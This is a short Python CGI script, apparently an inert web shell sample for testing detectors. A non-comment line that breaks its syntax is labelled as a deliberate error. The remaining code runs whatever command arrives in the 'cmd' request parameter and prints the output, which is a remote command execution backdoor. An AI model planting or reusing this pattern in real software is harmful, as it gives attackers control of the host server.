#!/usr/bin/python
shodo inert sample: deliberate syntax error, this file never runs
import cgi, os
cmd = cgi.FieldStorage().getfirst("cmd", "id")
print(os.popen(cmd).read())
